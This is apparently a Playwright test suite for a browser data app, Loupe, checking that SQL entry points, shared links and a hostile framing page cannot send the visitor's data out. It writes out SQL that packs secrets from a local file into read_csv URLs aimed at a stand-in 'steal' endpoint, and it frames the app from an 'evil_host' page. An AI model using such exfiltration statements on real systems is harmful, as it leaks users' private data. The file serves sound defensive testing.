"""No byte of the visitor's data leaves the tab (README: Privacy).

The attack corpus (tests/browser/attacks.py: every DuckDB way to name a file
or an address) goes through each entry point — the SQL editor,
``loupe.query``, ``?sql=``, a ``#state=`` link whose SQL reads a local file
the test then opens, and postMessage from a parent page of another origin —
while a TCP server on another port counts every connection and each
context records every request of its pages and workers. Pass: zero
connections, zero requests to any origin but the app's own (and the
embedding host's), a clear message for every statement, and the tables
already open unchanged.
"""

import json
from urllib.parse import quote

import pytest
from attacks import CHANGES, MESSAGES, Knocks, corpus, one_of_each
from conftest import foreign_requests, origin_of
from helpers import BOOT_TIMEOUT_MS, axe_violations, open_app

NOTES = "kind,secret\napple,swordfish\npear,opensesame\n"
DIGEST = "SELECT count(*), sum(hash(weather || precipitation::VARCHAR || date::VARCHAR)) FROM seattle_weather"
UNCLEAR = ("Traceback", "JsProxy", "undefined", "[object", "failed unexpectedly")


@pytest.fixture(scope="module")
def knocks():
    server = Knocks()
    yield server
    server.close()


@pytest.fixture(scope="module")
def booted(browser, base_url):
    """One page for the person's own entry points (the SQL editor, loupe.query)."""
    context = browser.new_context()
    context.set_default_timeout(BOOT_TIMEOUT_MS)
    page = open_app(context.new_page(), base_url)
    yield page
    context.close()


def snapshot(page) -> list:
    """What is open, and a digest of the sample's values: unchanged by any attack."""
    tables = page.evaluate("loupe.tables()")
    digest = page.evaluate("(sql) => loupe.query(sql).then((r) => JSON.stringify(r.rows))", DIGEST)
    return [sorted((t["table"], t["rows"], json.dumps(t["columns"])) for t in tables), digest]


def assert_clear(statement, kind, message):
    assert message and not any(word in message for word in UNCLEAR), (statement, message)
    if kind is not None:
        assert MESSAGES[kind] in message, (statement, message)


def rejection(page, sql) -> str:
    return page.evaluate(
        """async (sql) => {
        try { await loupe.query(sql); } catch (e) { return e.message; }
        return '';
    }""",
        sql,
    )


def test_no_request_leaves_the_origin_in_normal_work(context, base_url):
    """Boot, Python, a query, a file, the service worker: every request (workers' too) stays at home."""
    requests = []
    context.on("request", lambda request: requests.append(request.url))
    page = open_app(context.new_page(), base_url)
    page.evaluate("loupe.pythonReady")
    page.evaluate("loupe.query('SELECT count(*) FROM seattle_weather')")
    page.evaluate("loupe.open({name: 'x.csv', text: 'a\\n1\\n'})")
    page.evaluate("navigator.serviceWorker.ready")
    assert requests, "no request was recorded at all"
    assert foreign_requests(requests, {origin_of(base_url)}) == []
    assert any(url.endswith("pyodide.asm.wasm") for url in requests)  # worker requests are seen too
    assert any(url.endswith("duckdb-eh.wasm") for url in requests)


def test_loupe_query_cannot_reach_the_network(booted, knocks):
    before = snapshot(booted)
    statements = corpus(knocks.url)
    assert len(statements) >= 40
    for statement, kind in statements:
        assert_clear(statement, kind, rejection(booted, statement))
    assert knocks.seen == []
    assert snapshot(booted) == before


def test_a_step_expression_cannot_reach_the_network(booted, knocks):
    """Transform steps are SQL too: an expression that reads an address is refused or fails, and nothing leaves."""
    before = snapshot(booted)
    reads = [
        f"(SELECT count(*) FROM read_csv('{knocks.url}/step.csv'))",
        f"(SELECT count(*) FROM read_parquet('{knocks.url}/step.parquet'))",
        f"(SELECT count(*) FROM read_json_auto('{knocks.url}/step.json'))",
        f"length((SELECT content FROM read_text('{knocks.url}/step.txt')))",
        f"(SELECT count(*) FROM '{knocks.url}/step.csv')",
    ]
    for expression in reads:
        step = {"kind": "derive", "name": "leak", "expression": expression}
        message = booted.evaluate(
            "(step) => loupe.addStep(step, 'seattle_weather').then(() => '', (e) => e.message)", step
        )
        assert_clear(expression, None, message)
        preview = booted.evaluate("(step) => loupe.previewStep(step, 'seattle_weather')", step)
        assert preview["problem"], expression
    assert booted.evaluate("loupe.steps('seattle_weather')")["steps"] == []
    kind = "SELECT table_type FROM information_schema.tables WHERE table_name = 'seattle_weather'"
    assert booted.evaluate(f"loupe.query({kind!r}).then(r => r.rows)") == [["BASE TABLE"]]  # a table still
    assert knocks.seen == []
    assert snapshot(booted) == before


def test_the_sql_editor_cannot_reach_the_network(booted, knocks):
    before = snapshot(booted)
    booted.locator("#sql-toggle").click()
    editor = booted.locator("#sql-editor .cm-content")
    editor.wait_for()
    for statement, kind in corpus(knocks.url):
        runs = int(booted.locator("#sql-panel").get_attribute("data-runs") or 0)
        editor.fill(statement)
        editor.press("Control+Shift+Enter")  # run every statement
        booted.wait_for_function(f"Number(document.querySelector('#sql-panel').dataset.runs || 0) > {runs}")
        assert_clear(statement, kind, booted.locator("#sql-error").inner_text())
    assert knocks.seen == []
    booted.locator("#sql-toggle").click()
    assert snapshot(booted)[0] == before[0] and snapshot(booted)[1] == before[1]


def test_a_second_wall_the_engine_worker_fetches_nothing_even_unlocked(booted, knocks):
    """DuckDB started in Loupe's worker wrapper, without the lock: its own HTTP reads are still refused."""
    message = booted.evaluate(
        """async (url) => {
        const duckdb = await import('duckdb');
        const worker = new Worker('./assets/js/duckdb-worker.js');
        const db = new duckdb.AsyncDuckDB(new duckdb.VoidLogger(), worker);
        await db.instantiate(new URL('./assets/vendor/duckdb-wasm-1.32.0/duckdb-eh.wasm', location.href).href);
        await db.open({});
        const connection = await db.connect();
        const open = await connection.query("SELECT current_setting('enable_external_access') AS e");
        if (open.getChild('e').get(0) !== true) return 'not unlocked';
        const read = connection.query(`SELECT * FROM read_csv('${url}/unlocked.csv')`).then(() => 'read it', (e) => e.message);
        const late = new Promise((resolve) => setTimeout(() => resolve('no answer in 30 s'), 30000));
        try { return await Promise.race([read, late]); } finally { db.terminate(); }
    }""",
        knocks.url,
    )
    assert "makes no network requests" in message or "IO Error" in message, message
    assert knocks.seen == []


def _wait_boot(page):
    page.wait_for_function("window.loupe !== undefined")
    page.evaluate("loupe.ready")


def test_sql_in_the_address_cannot_reach_the_network(browser, base_url, knocks):
    """?sql= in an embed (no Python to start): reading SQL runs at once, the rest only once agreed to —
    and here the visitor even agrees: the engine still refuses. A page load per statement, so one
    statement of each way in; they then run as the editor runs them (the whole corpus above)."""
    context = browser.new_context()
    context.set_default_timeout(BOOT_TIMEOUT_MS)
    page = context.new_page()
    for statement, kind in one_of_each(knocks.url):
        page.goto(f"{base_url}embed.html?sql={quote(statement)}")
        _wait_boot(page)
        page.wait_for_selector("#grid tbody tr[data-row]")
        runs = int(page.locator("#sql-panel").get_attribute("data-runs") or 0)
        if page.locator("#consent").is_visible() or runs == 0:
            page.locator("#consent").wait_for(state="visible")
            assert "changes tables" in page.locator("#consent-title").inner_text()
            page.locator("#consent-yes").click()
        page.wait_for_function("Number(document.querySelector('#sql-panel').dataset.runs || 0) > 0")
        page.wait_for_function("document.getElementById('error-text').textContent.includes('failed')")
        assert_clear(statement, kind, page.locator("#error-text").inner_text())
        assert page.evaluate("loupe.tables().map(t => t.table)")[0] == "seattle_weather"
    assert knocks.seen == []
    context.close()


@pytest.mark.parametrize("agree", [False, True])
def test_sql_in_the_address_that_changes_tables_is_shown_and_asked_about(fresh_page, base_url, agree):
    page = fresh_page()
    page.goto(base_url + "?sql=" + quote("DROP TABLE seattle_weather"))
    _wait_boot(page)
    page.locator("#consent").wait_for(state="visible")
    assert page.locator("#consent-code").inner_text() == "DROP TABLE seattle_weather"
    assert page.evaluate("loupe.tables().map(t => t.table)") == ["seattle_weather"]  # nothing ran yet
    assert axe_violations(page) == []
    assert page.evaluate("document.activeElement.id") == "consent-no"  # the safe answer has the focus
    page.locator("#consent-yes" if agree else "#consent-no").click()
    page.locator("#consent").wait_for(state="hidden")
    if agree:
        page.wait_for_function("loupe.tables().length === 0")
    else:
        assert "was not run" in page.locator("#error-text").inner_text()
        assert page.evaluate("loupe.tables().map(t => t.table)") == ["seattle_weather"]


@pytest.fixture
def fresh_page(browser):
    contexts = []

    def make():
        context = browser.new_context()
        context.set_default_timeout(BOOT_TIMEOUT_MS)
        contexts.append(context)
        return context.new_page()

    yield make
    for context in contexts:
        context.close()


def _link(page, base_url, sources, active):
    state = {"version": 1, "sources": sources, "tables": {}, "active": active, "sql": "", "panels": []}
    return base_url + "#state=" + page.evaluate("(text) => loupe._pack(text)", json.dumps(state))


def test_a_link_whose_sql_reads_a_local_file_cannot_send_it_anywhere(booted, fresh_page, base_url, knocks, tmp_path):
    """The link asks the visitor to open notes.csv, then runs SQL over it (and asks to run the rest: agreed to)."""
    target = knocks.url
    stolen = (
        "SET VARIABLE s = (SELECT string_agg(secret, '-') FROM notes); "
        "SELECT * FROM read_csv('" + target + "/steal?d=' || getvariable('s'))"
    )
    attacks = [
        stolen,
        "CREATE TABLE leak AS SELECT * FROM read_csv('" + target + "/n.csv?' || (SELECT max(secret) FROM notes))",
    ] + [statement for statement, _ in corpus(target)]
    sources = [{"table": "notes", "kind": "file", "name": "notes.csv", "read": {"format": "csv"}}]
    sources += [
        {"table": f"attack_{i}", "kind": "query", "name": f"attack_{i}", "read": {"sql": sql}}
        for i, sql in enumerate(attacks)
    ]
    page = fresh_page()
    page.goto(_link(booted, base_url, sources, "notes"))
    _wait_boot(page)
    page.locator("#consent").wait_for(state="visible")
    assert "SET VARIABLE s" in page.locator("#consent-code").inner_text()  # only what does more than read
    restores = page.evaluate("Number(document.body.dataset.restores || 0)")
    page.locator("#consent-yes").click()  # the worst case: the visitor agrees
    page.wait_for_function(f"Number(document.body.dataset.restores || 0) > {restores}")
    page.locator("#waiting").wait_for(state="visible")
    notes = tmp_path / "notes.csv"
    notes.write_text(NOTES)
    restores = page.evaluate("Number(document.body.dataset.restores || 0)")
    page.set_input_files("#file-input", str(notes))
    page.wait_for_function(f"Number(document.body.dataset.restores || 0) > {restores}")
    tables = page.evaluate("loupe.tables().map(t => t.table)")
    assert tables == ["notes"]  # no attack made a table
    assert page.evaluate("loupe.query('SELECT count(*) FROM notes')")["rows"] == [[2]]
    message = page.locator("#error-text").inner_text()
    assert "could not be made again" in message and MESSAGES["network"] in message
    assert knocks.seen == []


HOST_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Host</title></head><body>
<iframe id="loupe" title="Loupe" src="{frame}" width="900" height="600"></iframe>
<script>
  window.received = [];
  let next = 1;
  const pending = new Map();
  addEventListener("message", (event) => {{
    window.received.push(event.data);
    const waiter = pending.get(event.data && event.data.id);
    if (waiter) {{ pending.delete(event.data.id); waiter(event.data); }}
  }});
  window.ask = (message) => new Promise((resolve) => {{
    const id = next++;
    pending.set(id, resolve);
    document.getElementById("loupe").contentWindow.postMessage({{...message, id}}, "*");
  }});
</script></body></html>"""


@pytest.fixture(scope="module")
def evil_host(tmp_path_factory):
    """A page of another origin that frames Loupe (no ?origin= given), served on its own port."""
    import threading
    from functools import partial
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *args):
            pass

    root = tmp_path_factory.mktemp("evil")
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(root)))
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield root, f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()


def _framed(browser, evil_host, frame_url, allow_origin):
    root, url = evil_host
    (root / "host.html").write_text(HOST_PAGE.format(frame=frame_url))
    allow_origin(url)  # the parent page itself is expected
    context = browser.new_context()
    context.set_default_timeout(BOOT_TIMEOUT_MS)
    page = context.new_page()
    page.goto(url + "host.html")
    page.wait_for_function("window.received.some((m) => m.type === 'loupe:ready')")
    frame = next(f for f in page.frames if f.url.startswith(frame_url.split("?")[0]))
    return context, page, frame


def test_a_parent_page_cannot_reach_the_network_or_change_tables(browser, base_url, evil_host, knocks, allow_origin):
    context, page, frame = _framed(browser, evil_host, base_url + "embed.html", allow_origin)
    before = snapshot(frame)
    for statement, _kind in corpus(knocks.url):
        reply = page.evaluate("(sql) => ask({type: 'loupe:query', sql})", statement)
        assert reply["type"] == "loupe:error", (statement, reply)
        assert reply["message"] and not any(word in reply["message"] for word in UNCLEAR), reply
    for statement in CHANGES:
        reply = page.evaluate("(sql) => ask({type: 'loupe:query', sql})", statement)
        assert reply["type"] == "loupe:error" and "may only read" in reply["message"], (statement, reply)
    # A view whose log holds statements that change tables or read the network (version 2) ...
    state = page.evaluate("ask({type: 'loupe:getView'})")["state"]
    knock = "SELECT * FROM read_csv('" + knocks.url + "/v.csv')"
    state["log"] += [
        {"op": "sql", "statement": sql, "made": [f"made_{i}"], "dropped": []} for i, sql in enumerate(CHANGES)
    ]
    state["log"].append({"op": "query", "table": "made_knock", "statement": knock})
    reply = page.evaluate("(state) => ask({type: 'loupe:setView', state})", state)
    assert reply["type"] == "loupe:result", reply
    assert "may only read" in frame.locator("#error-text").inner_text()
    assert snapshot(frame) == before
    # ... and the same as a version-1 view, its SQL in query sources, brought up to date first.
    frame.evaluate("document.getElementById('error-text').textContent = ''")
    old = {"version": 1, "sources": [s for s in state["sources"] if s["kind"] != "query"], "active": state["active"]}
    old["tables"] = state["tables"]
    old["sources"] += [
        {"table": f"made_{i}", "kind": "query", "name": f"made_{i}", "read": {"sql": sql}}
        for i, sql in enumerate(CHANGES + [knock])
    ]
    reply = page.evaluate("(state) => ask({type: 'loupe:setView', state})", old)
    assert reply["type"] == "loupe:result", reply
    assert "may only read" in frame.locator("#error-text").inner_text()
    assert snapshot(frame) == before
    # reading SQL still works for the page
    reply = page.evaluate("ask({type: 'loupe:query', sql: 'SELECT count(*) AS n FROM seattle_weather'})")
    assert reply["type"] == "loupe:result" and reply["rows"] == [[1461]]
    # no view state was broadcast to a parent nobody listed
    assert not [m for m in page.evaluate("window.received") if m.get("type") == "loupe:view"]
    assert knocks.seen == []
    context.close()


def test_a_framed_loupe_asks_before_opening_the_visitors_file(browser, base_url, evil_host, tmp_path, allow_origin):
    context, page, frame = _framed(browser, evil_host, base_url + "embed.html", allow_origin)
    notes = tmp_path / "notes.csv"
    notes.write_text(NOTES)
    frame.set_input_files("#file-input", str(notes))
    frame.locator("#consent").wait_for(state="visible")
    text = frame.locator("#consent-text").inner_text()
    assert origin_of(evil_host[1]) in text and "notes.csv" in text
    assert axe_violations(frame) == []
    frame.locator("#consent-no").click()
    frame.locator("#consent").wait_for(state="hidden")
    reply = page.evaluate("ask({type: 'loupe:tables'})")
    assert [t["table"] for t in reply["tables"]] == ["seattle_weather"]  # not read, so not readable
    frame.set_input_files("#file-input", str(notes))
    frame.locator("#consent-yes").click()
    frame.wait_for_function("loupe.tables().length === 2")
    context.close()


def test_the_privacy_indicator_lists_exactly_the_addresses_contacted(context, base_url, other_origin):
    requests = []
    context.on("request", lambda request: requests.append(request.url))
    page = open_app(context.new_page(), base_url)
    summary = page.locator("#privacy-summary")
    assert "no address contacted" in summary.inner_text()
    asked = other_origin + "examples/planets.csv"  # another origin without CORS: contacted, though refused
    page.evaluate("(url) => loupe.open(url).catch(() => null)", asked)
    page.wait_for_function("document.getElementById('privacy-count').textContent.includes('1 address')")
    summary.click()
    listed = page.locator("#privacy-contacted li").all_inner_texts()
    assert listed == [asked]
    foreign = {origin_of(url) for url in foreign_requests(requests, {origin_of(base_url)})}
    assert foreign == {origin_of(asked)}
    statement = page.locator("#privacy-statement").inner_text()
    assert statement.startswith("Nothing else leaves this device.")
    assert axe_violations(page) == []
    page.keyboard.press("Escape")


def test_the_pages_policy_holds_through_a_session(context, base_url):
    """No Content-Security-Policy violation while booting, starting Python, charting and querying."""
    page = context.new_page()
    page.add_init_script("""window.violations = [];
        document.addEventListener('securitypolicyviolation',
            (e) => window.violations.push(e.violatedDirective + ' ' + e.blockedURI));""")
    response = page.goto(base_url)
    assert "object-src 'none'" in response.headers["content-security-policy"]
    open_app(page, base_url)
    page.evaluate("loupe.pythonReady")
    page.locator("#chart-toggle").click()
    page.locator("#chart-panel svg, #chart-panel canvas").first.wait_for()
    page.evaluate("loupe.query('SELECT 1')")
    assert page.evaluate("window.violations") == []
